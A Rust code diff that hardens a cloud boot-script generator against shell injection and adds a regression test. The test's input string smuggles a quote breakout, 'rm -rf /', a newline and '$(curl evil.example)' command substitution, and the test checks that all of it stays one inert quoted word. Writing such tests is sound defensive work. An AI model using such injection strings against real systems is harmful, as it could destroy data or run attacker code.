@@ -165,18 +165,24 @@ pub fn user_data(boot: &Boot, worker_group: &str) -> Result<String, String> {
         "Sluice's deployment names no API address for machines' runners (SLUICE_API_URL), so an Ec2Resource's \
          runner would have nothing to poll",
     )?;
-    let quote = |text: &str| format!("'{}'", text.replace('\'', r"'\''"));
+    let worker_group = shell_word(worker_group);
     Ok(format!(
         "#!/bin/bash\n\
          # Sluice: the Task Runner of {worker_group}\n\
          set -eu\n\
          aws s3 cp {} /usr/local/bin/sluice\n\
          chmod +x /usr/local/bin/sluice\n\
-         exec /usr/local/bin/sluice runner --worker-group {} --endpoint {} --hostname \"$(hostname)\"\n",
-        quote(binary),
-        quote(worker_group),
-        quote(api),
+         exec /usr/local/bin/sluice runner --worker-group {worker_group} --endpoint {} --hostname \"$(hostname)\"\n",
+        shell_word(binary),
+        shell_word(api),
     ))
+}
+
+/// `text` as one word of a shell script: without control characters (a newline would end
+/// the script's line, even a comment's), single-quoted, each `'` written `'\''`.
+fn shell_word(text: &str) -> String {
+    let printable: String = text.chars().filter(|character| !character.is_control()).collect();
+    format!("'{}'", printable.replace('\'', r"'\''"))
 }
 
 /// Whether attempt `number_in_run` (1 for the first) may still ask for spot capacity: not
@@ -1295,5 +1301,63 @@ fn gone_message(machine: &MachineRecord, state: &MachineState) -> ErrorDetails {
             "Sluice.MachineLost",
             format!("{market} machine {} ended before its work", machine.id),
         ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_worker_group_that_tries_to_break_out_of_the_boot_script_stays_one_quoted_word() {
+        // Given a worker group with a quote, a command, newlines and substitutions
+        let boot = Boot {
+            runner_binary_uri: Some("s3://deploy/sluice".to_owned()),
+            api_url: Some("https://api.example/".to_owned()),
+            ..Boot::default()
+        };
+        let group = "df-1/@Box'; rm -rf / #\nreboot\r\n$(curl evil.example)`id`\u{7}";
+        // When the boot script is made for it
+        let script = user_data(&boot, group).unwrap();
+        // Then it is exactly this: the group's control characters gone, its quote escaped,
+        // the same quoted word in the comment and on the command line
+        let word = r"'df-1/@Box'\''; rm -rf / #reboot$(curl evil.example)`id`'";
+        assert_eq!(
+            script,
+            format!(
+                "#!/bin/bash\n\
+                 # Sluice: the Task Runner of {word}\n\
+                 set -eu\n\
+                 aws s3 cp 's3://deploy/sluice' /usr/local/bin/sluice\n\
+                 chmod +x /usr/local/bin/sluice\n\
+                 exec /usr/local/bin/sluice runner --worker-group {word} --endpoint 'https://api.example/' \
+                 --hostname \"$(hostname)\"\n"
+            )
+        );
+        // and bash reads the command line's words as given, running nothing of the group
+        let command = script
+            .lines()
+            .last()
+            .unwrap()
+            .replace("exec /usr/local/bin/sluice", "printf '%s\\n'");
+        let output = std::process::Command::new("bash")
+            .args(["-c", &command])
+            .output()
+            .unwrap();
+        let words: Vec<String> = String::from_utf8(output.stdout)
+            .unwrap()
+            .lines()
+            .map(str::to_owned)
+            .collect();
+        assert_eq!(
+            words[..5],
+            [
+                "runner",
+                "--worker-group",
+                "df-1/@Box'; rm -rf / #reboot$(curl evil.example)`id`",
+                "--endpoint",
+                "https://api.example/"
+            ]
+        );
     }
 }
